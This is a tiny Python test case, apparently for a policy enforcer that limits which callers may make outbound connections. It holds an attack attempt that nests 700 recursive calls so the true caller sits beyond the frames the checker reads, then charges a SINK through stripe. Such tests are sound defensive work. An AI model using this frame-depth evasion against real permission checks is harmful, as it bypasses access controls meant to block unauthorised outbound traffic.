# class: only_for
# rule: outbound_connectivity
# success: the caller lies beyond the frames that are read
# proof: sink
# needs: packages
# policy: only_for.yaml
import sys

import stripe
from attack import SINK, attempt


@attempt
def deep():
    sys.setrecursionlimit(5000)

    def call(depth):
        return stripe.call(call, depth - 1) if depth else stripe.charge(SINK)

    return call(700)
